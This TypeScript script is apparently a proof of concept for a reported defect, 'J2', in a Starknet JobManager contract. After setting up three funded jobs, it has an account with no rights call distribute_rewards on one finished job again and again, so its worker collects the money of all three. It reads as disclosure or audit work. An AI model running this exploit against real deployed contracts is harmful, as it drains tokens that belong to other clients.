/**
 * Shows defect J2 of the published JobManager: anybody can have a completed job paid again, as long as the contract
 * holds tokens. Three jobs of 100 CIRO are funded, one is done, and its worker gets the money of all three.
 *
 * npm install starknet tsx
 * Set RPC_URL, CIRO_TOKEN, JOB_MANAGER; ACCOUNT_ADDRESS and PRIVATE_KEY (the operator), WORKER_ADDRESS,
 * WORKER_PRIVATE_KEY, OUTSIDER_ADDRESS and OUTSIDER_PRIVATE_KEY (an account without any right).
 */
import { Account, CallData, RpcError, RpcProvider, type RawArgs, cairo } from 'starknet';

function env(name: string): string {
  const value = process.env[name];
  if (!value) throw new Error(`Set the environment variable ${name}.`);
  return value;
}

const provider = new RpcProvider({ nodeUrl: env('RPC_URL') });
const signer = (role: string, key = `${role}_PRIVATE_KEY`): Account =>
  new Account({ provider, address: env(`${role}_ADDRESS`), signer: env(key) });
const owner = signer('ACCOUNT', 'PRIVATE_KEY');
const worker = signer('WORKER');
const outsider = signer('OUTSIDER');
const CIRO = 10n ** 18n;

/** Sends one call, waits, and stops when it reverted. */
async function send(from: Account, contractAddress: string, entrypoint: string, args: RawArgs = {}) {
  const { transaction_hash } = await from.execute({
    contractAddress,
    entrypoint,
    calldata: CallData.compile(args),
  });
  const receipt = await provider.waitForTransaction(transaction_hash);
  if (!receipt.isSuccess()) throw new Error(`${entrypoint} reverted.`);
  return receipt.value;
}

/** The reason why a call is refused; `execute` throws it when it estimates, before anything is sent or paid. */
async function refusal(attempt: Promise<unknown>): Promise<string> {
  try {
    await attempt;
    return 'not refused';
  } catch (error) {
    if (!(error instanceof RpcError)) throw error;
    const text = JSON.stringify(error.baseError);
    return /\('([^']+)'\)/.exec(text)?.[1] ?? /\\"([^"\\]+)\\"/.exec(text)?.[1] ?? error.baseError.message;
  }
}

async function balance(holder: string): Promise<string> {
  const [low] = await provider.callContract({
    contractAddress: env('CIRO_TOKEN'),
    entrypoint: 'balance_of',
    calldata: [holder],
  });
  const cents = (BigInt(low!) * 100n) / CIRO;
  return `${cents / 100n}.${(cents % 100n).toString().padStart(2, '0')} CIRO`;
}

const jobId = cairo.uint256(1);
const WORKER_ID = '0x51f0a7';
await send(worker, env('JOB_MANAGER'), 'register_worker', {
  worker_id: WORKER_ID,
  worker_address: worker.address,
});
const { timestamp } = await provider.getBlock('latest');
for (let index = 0; index < 3; index++) {
  await send(owner, env('JOB_MANAGER'), 'submit_ai_job', {
    job_spec: {
      job_type: 0,
      model_id: cairo.uint256(0),
      input_data_hash: '0xda7a',
      expected_output_format: 'json',
      verification_method: 0,
      max_reward: cairo.uint256(CIRO),
      sla_deadline: timestamp + 3600,
      compute_requirements: [],
      metadata: [],
    },
    payment: cairo.uint256(100n * CIRO),
    client: owner.address,
  });
}
await send(owner, env('CIRO_TOKEN'), 'transfer', {
  recipient: env('JOB_MANAGER'),
  amount: cairo.uint256(300n * CIRO),
});
await send(owner, env('JOB_MANAGER'), 'assign_job_to_worker', { job_id: jobId, worker_id: WORKER_ID });
await send(worker, env('JOB_MANAGER'), 'submit_job_result', {
  job_id: jobId,
  result: {
    job_id: jobId,
    worker_id: WORKER_ID,
    output_data_hash: '0x0b7',
    computation_proof: [],
    gas_used: cairo.uint256(500_000),
    execution_time: 42,
  },
});

// #region again
for (let payment = 1; payment <= 3; payment++) {
  await send(outsider, env('JOB_MANAGER'), 'distribute_rewards', { job_id: jobId });
  console.log(`payment ${payment}: worker ${await balance(worker.address)}`);
}
console.log('manager:', await balance(env('JOB_MANAGER')));
console.log(
  'fourth :',
  await refusal(send(outsider, env('JOB_MANAGER'), 'distribute_rewards', { job_id: jobId })),
);
// #endregion again
